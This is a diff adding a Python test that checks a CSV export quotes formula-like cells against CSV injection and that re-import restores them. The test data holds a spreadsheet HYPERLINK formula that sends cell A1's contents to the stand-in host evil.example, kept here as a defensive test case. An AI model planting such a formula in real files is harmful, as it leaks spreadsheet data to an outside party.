@@ -220,3 +220,38 @@ def test_phone_slash_becomes_space(sessions):
         apply_import(session, file, station="s")
     with sessions() as session:
         assert session.scalar(select(User.phone)) == "0151 3970856"
+
+
+def test_formula_like_names_round_trip_through_a_guarded_export(sessions):
+    """The export quotes "=..." and "@..." text against CSV injection; the import takes that
+    quote off again, so the exported list re-imports unchanged."""
+    import csv
+    import io
+
+    from app.transfer import export_statement, table_statement
+
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    members = io.StringIO()
+    writer = csv.writer(members)
+    writer.writerows(
+        [
+            ["first", "last", "email", "phone"],
+            [formula, "@Home", "f@x.org", "+41 79 123 45 67"],
+            ["'t", "-Dash", "t@x.org", ""],
+        ]
+    )
+    with unit_of_work(sessions) as session:
+        apply_import(session, read_patron_csv(members.getvalue().encode()), station="s")
+    out = io.StringIO()
+    with sessions() as session:
+        export_statement(session, table_statement("users"), out, "csv")
+    exported = out.getvalue()
+    assert f'"\'{formula.replace(chr(34), chr(34) * 2)}"' in exported
+    assert ",'@Home," in exported and ",'-Dash," in exported
+    again = read_patron_csv(exported.encode())
+    assert {r.values["firstName"] for r in again.rows} == {formula, "'t"}
+    with sessions() as session:
+        plan = plan_import(session, again)
+        names = {(u.first_name, u.last_name, u.phone) for u in session.scalars(select(User))}
+    assert plan.counts == {"new": 0, "updated": 0, "unchanged": 2, "rejected": 0}
+    assert names == {(formula, "@Home", "+41 79 123 45 67"), ("'t", "-Dash", None)}
